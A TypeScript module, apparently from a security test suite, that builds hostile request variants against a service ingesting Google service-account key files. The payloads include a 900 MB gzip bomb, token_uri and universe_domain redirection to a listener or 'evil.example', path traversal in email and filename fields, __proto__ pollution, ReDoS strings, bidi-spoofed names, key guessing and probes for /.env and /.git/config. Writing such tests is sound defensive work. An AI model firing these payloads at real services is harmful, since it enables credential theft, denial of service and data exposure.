import { generateKeyPairSync } from 'node:crypto';
import { gzipSync } from 'node:zlib';

export interface Variant {
  body?: string | Buffer;
  path?: string;
}

/** 900 MB of zeros, as nine members of one file; made before anything is asked: meanwhile idle connections would be closed. */
const hundred = gzipSync(Buffer.alloc(100_000_000), { level: 9 });
const bomb = Buffer.concat(Array.from({ length: 9 }, () => hundred));

const pem = (key: { export: (form: { type: 'pkcs8'; format: 'pem' }) => string | Buffer }) =>
  key.export({ type: 'pkcs8', format: 'pem' }).toString();

/** What `generate` of an attack describes in words: the requests, each of which has to meet the expectation. */
export function generated(
  id: string,
  { good, words }: { good: Buffer; words: Record<string, string> },
): Variant[] | undefined {
  const text = good.toString();
  const file = JSON.parse(text) as Record<string, string>;
  const changed = (members: object): Variant => ({ body: JSON.stringify({ ...file, ...members }) });
  const named = (name: string): Variant => ({
    body: JSON.stringify({ name, validationId: words.validationA }),
  });
  const listener = `127.0.0.1:${words.listenerPort ?? ''}`;
  const rsa = (modulusLength: number) =>
    pem(generateKeyPairSync('rsa', { modulusLength }).privateKey);
  const { keyA = '', nameA = '', pageTokenOfA = '' } = words;
  const flipped = Buffer.from(pageTokenOfA, 'base64url');
  flipped[8] = (flipped[8] ?? 0) ^ 1;
  const bidi = '\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069';
  const external = JSON.stringify({
    type: 'external_account',
    token_url: `http://${listener}/token`,
    credential_source: { url: `http://${listener}/subject` },
  });
  const variants: Record<string, () => Variant[]> = {
    'claim-role-unknown-upload': () => [{ body: good }],
    'role-viewer-upload': () => [{ body: good }],
    'readback-upload': () => [{ body: good }],
    'jwks-unknown-kid-burst': () => Array.from({ length: 20 }, () => ({})),
    'vault-guess-key': () =>
      [
        `${keyA.slice(0, -1)}${keyA.endsWith('0') ? '1' : '0'}`,
        keyA.slice(0, 15),
        keyA.toUpperCase(),
        `bqc-${keyA}`,
        `projects/x/secrets/bqc-${keyA}/versions/latest`,
      ].map((guess) => ({ path: `/?keyId=${encodeURIComponent(guess)}` })),
    'page-token-bent-list': () =>
      [
        flipped.toString('base64url'),
        '',
        'A'.repeat(6000),
        Buffer.from('{"workspace":"b"}').toString('base64url'),
      ].map((token) => ({ path: `/?pageToken=${token}` })),
    'kind-external-account-base64': () => [{ body: Buffer.from(external).toString('base64') }],
    'url-token-uri-evil': () => [changed({ token_uri: `http://${listener}/token` })],
    'url-universe-evil': () => [changed({ universe_domain: 'evil.example' })],
    'url-token-uri-userinfo': () => [
      changed({ token_uri: `https://oauth2.googleapis.com@${listener}/token` }),
    ],
    'str-email-dotdot': () => [
      changed({ client_email: '../../../oauth2/v1/certs?x=a@b.iam.gserviceaccount.com' }),
    ],
    'str-legacy-project-control': () => [
      changed({ project_id: 'example.com:my-project', private_key: rsa(2048) }),
    ],
    'parse-duplicate-type': () => [
      {
        body: text
          .trim()
          .replace(/\}$/, `,"type":"external_account","token_url":"http://${listener}"}`),
      },
    ],
    'parse-duplicate-private-key': () => [
      { body: text.trim().replace(/\}$/, `,"private_key":${JSON.stringify(rsa(2048))}}`) },
    ],
    'parse-proto': () => [{ body: `{"__proto__":${text}}` }],
    'parse-utf16': () => [{ body: Buffer.from(`\uFEFF${text}`, 'utf16le') }],
    'rsa-1024': () => [changed({ private_key: rsa(1024) })],
    'rsa-16384': () => [
      // Its length is what counts: making a true one takes minutes.
      changed({
        private_key: `-----BEGIN PRIVATE KEY-----\n${'A'.repeat(12_500)}\n-----END PRIVATE KEY-----\n`,
      }),
    ],
    'ec-key': () => [
      changed({ private_key: pem(generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey) }),
    ],
    'body-multipart': () => [
      {
        body: `--x\r\ncontent-disposition: form-data; name="f"; filename="../../.local/keys/x.json"\r\n\r\n${text}\r\n--x--`,
      },
    ],
    'body-16385': () => [{ body: text.padEnd(16_385) }],
    'body-16384-control': () => [{ body: text.padEnd(16_384) }],
    'bomb-gzip-anonymous': () => [{ body: bomb }],
    'load-5mb-json': () => [{ body: `{"keyId":"${'A'.repeat(5_000_000)}"}` }],
    'load-5mb-anonymous': () => [{ body: `{"keyId":"${'A'.repeat(5_000_000)}"}` }],
    'load-many-members': () => [
      {
        body: `{${Array.from({ length: 8000 }, (_, index) => `"a${String(index)}":${String(index)}`).join(',')}}`,
      },
    ],
    'parser-root': () => ['[]', 'null', '"x"', '1', 'true', ''].map((body) => ({ body })),
    'redos-name': () => [named(`${' '.repeat(50_000)}a`)],
    'name-bidi': () => Array.from(bidi, (sign) => named(`gnp${sign}exe`)),
    'name-zero-width-twin': () =>
      Array.from('\u200b\u200c\u200d\u2060', (sign) =>
        named(`${nameA[0] ?? ''}${sign}${nameA.slice(1)}`),
      ),
    'left-debug-paths': () =>
      [
        '/.env',
        '/.git/config',
        '/package.json',
        '/main.js.map',
        '/debug',
        '/metrics',
        '/__inspect',
      ].map((path) => ({ path })),
    'left-framework-paths': () =>
      ['/package.json', '/../package.json', '/node_modules/', '/robots.txt'].map((path) => ({
        path,
      })),
    'cache-interleaved-validate': () => Array.from({ length: 20 }, () => ({})),
    'race-create-same-name': () => Array.from({ length: 10 }, () => ({})),
  };
  return variants[id]?.();
}
